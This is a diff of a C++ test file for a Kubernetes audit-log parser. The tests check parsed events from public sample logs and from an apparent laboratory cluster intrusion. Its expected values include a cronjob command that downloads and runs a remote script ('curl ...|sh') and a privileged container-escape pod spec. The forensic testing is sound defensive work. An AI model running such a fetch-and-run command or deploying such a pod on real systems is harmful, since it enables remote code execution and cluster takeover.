@@ -1,7 +1,8 @@
 // SPDX-License-Identifier: Apache-2.0
 #include "log/k8s_audit/reader.h"
 
-#include <fstream>
+#include <algorithm>
+#include <map>
 
 #include "base/limits.h"
 #include "log/json.h"
@@ -545,27 +546,95 @@ TEST(K8sAudit, CutsACommandLineAtkMaxArguments) {
 
 TEST(K8sAudit, SurvivesEveryDamage) { ParseEveryDamage(AuditFormat(), kUrl); }
 
-// All records of the laboratory cluster, of Falco's tests and of audit2rbac's: each is one event.
-TEST(K8sAudit, ReadsAllRealRecords) {
-  const std::optional<std::string> demo = SharedLog("audit2rbac/testdata/demo.log");
-  const std::optional<std::string> lab =
-      SharedLog("../evidence/node-k8s/logs/kube-apiserver-audit.log");
-  if (!demo || !lab) GTEST_SKIP() << kNoSharedLogs;
-  Parsed parsed;
-  size_t lines = 0;
-  for (const std::string* text : {&*demo, &*lab}) {
-    for (std::string_view rest = *text; !rest.empty();) {
-      const std::string_view line = rest.substr(0, rest.find('\n'));
-      rest.remove_prefix(std::min(line.size() + 1, rest.size()));
-      Parse(AuditFormat(), line, parsed);
-      ++lines;
-      ASSERT_EQ(parsed.outcome, Outcome::kEvents) << line;
-      ASSERT_TRUE(parsed.events.back().time) << line;
-      ASSERT_FALSE(parsed.events.back()[Text::kMessage].empty()) << line;
-    }
+// The lines of a file beside the project, each as a record.
+void ParseLines(const std::string& text, Parsed& parsed) {
+  for (std::string_view rest = text; !rest.empty();) {
+    const std::string_view line = rest.substr(0, rest.find('\n'));
+    rest.remove_prefix(std::min(line.size() + 1, rest.size()));
+    const size_t before = parsed.events.size();
+    Parse(AuditFormat(), line, parsed);
+    ASSERT_EQ(parsed.outcome, Outcome::kEvents) << line;
+    ASSERT_EQ(parsed.events.size(), before + 1) << line;
+    ASSERT_TRUE(parsed.events.back().time) << line;
+    ASSERT_FALSE(parsed.events.back()[Text::kMessage].empty()) << line;
   }
-  EXPECT_EQ(parsed.events.size(), lines);
+}
+
+TEST(K8sAudit, ReadsAuditToRbacsDemo) {
+  const std::optional<std::string> demo = SharedLog("audit2rbac/testdata/demo.log");
+  if (!demo) GTEST_SKIP() << kNoSharedLogs;
+  Parsed parsed;
+  ParseLines(*demo, parsed);
+  EXPECT_EQ(std::ranges::count(*demo, '\n'), static_cast<int>(parsed.events.size()));
+  std::map<std::string, int> users;
+  for (const Event& event : parsed.events) ++users[event[Text::kTags]];
+  EXPECT_EQ(users, (std::map<std::string, int>{
+                       {"impersonated=alice level=Metadata", 3},
+                       {"impersonated=bob level=Metadata", 29},
+                       {"impersonated=system:serviceaccount:ns1:sa1 level=Metadata", 5},
+                   }));
+}
+
+// Falco's records of 2018 (v1beta1), one a file: two kinds of pods that its rules find.
+TEST(K8sAudit, ReadsPodsOfFalcosTests) {
+  for (const auto& [name, tags] : std::map<std::string, std::string>{
+           {"privileged_2nd_container", "level=RequestResponse privileged"},
+           {"unprivileged", "level=RequestResponse"},
+           {"hostnetwork", "level=RequestResponse host_network"},
+           {"nohostnetwork", "level=RequestResponse"},
+           {"sensitive_mount", "level=RequestResponse host_path=/etc"}}) {
+    const std::optional<std::string> file =
+        SharedLog("falco_k8s_audit/test/trace_files/k8s_audit/create_nginx_pod_" + name + ".json");
+    if (!file) GTEST_SKIP() << kNoSharedLogs;
+    Parsed parsed;
+    ParseLines(*file, parsed);
+    ASSERT_EQ(parsed.events.size(), 1U) << name;
+    EXPECT_EQ(parsed.events[0][Text::kTags], tags) << name;
+  }
+}
+
+// What was done to the laboratory cluster stands beside its disk; see evidence/README.md.
+TEST(K8sAudit, TellsTheStoryOfTheLaboratoryCluster) {
+  const std::optional<std::string> log =
+      SharedLog("../evidence/node-k8s/logs/kube-apiserver-audit.log");
+  if (!log) GTEST_SKIP() << kNoSharedLogs;
+  Parsed parsed;
+  ParseLines(*log, parsed);
+  EXPECT_EQ(parsed.events.size(), 1138U);
   EXPECT_TRUE(parsed.diagnostics.Sorted().empty());
+  const auto count = [&](auto&& matches) { return std::ranges::count_if(parsed.events, matches); };
+  EXPECT_EQ(count([](const Event& event) { return event[Text::kObjectKind] == "pods/exec"; }), 16);
+  EXPECT_EQ(count([](const Event& event) {
+              return event[Text::kObjectKind] == "pods/exec" &&
+                     event[Text::kAccessKeyId] == "AKIAEXAMPLECI0000002" &&
+                     !event[Text::kCommandLine].empty() && !event[Text::kContainer].empty();
+            }),
+            16);
+  EXPECT_EQ(count([](const Event& event) {
+              return event[Text::kTags].find("anonymous") != std::string::npos &&
+                     event[Text::kOutcome] == "failure";
+            }),
+            5);
+  EXPECT_EQ(
+      count([](const Event& event) {
+        return event[Text::kTags] == "level=RequestResponse role=cluster-admin subject=default" ||
+               event[Text::kTags] == "level=RequestResponse role=cluster-admin subject=eks-support";
+      }),
+      2);
+  const auto escape = std::ranges::find_if(parsed.events, [](const Event& event) {
+    return event[Text::kObjectName] == "node-health-checker" && event[Text::kAction] == "create" &&
+           event[Text::kObjectKind] == "pods";
+  });
+  ASSERT_NE(escape, parsed.events.end());
+  EXPECT_EQ((*escape)[Text::kTags],
+            "level=RequestResponse host_pid host_network host_path=/ cap_add=SYS_ADMIN "
+            "cap_add=SYS_PTRACE cap_add=SYS_CHROOT");
+  EXPECT_EQ((*escape)[Text::kPodUid], "25f303f7-6bcf-48aa-ada0-dde522ef9e6b");
+  EXPECT_EQ(count([](const Event& event) {
+              return event[Text::kObjectKind] == "cronjobs" && event[Text::kAction] == "create" &&
+                     event[Text::kCommandLine] == "sh -c 'curl http://198.51.100.23/b.sh|sh'";
+            }),
+            1);
 }
 
 }  // namespace
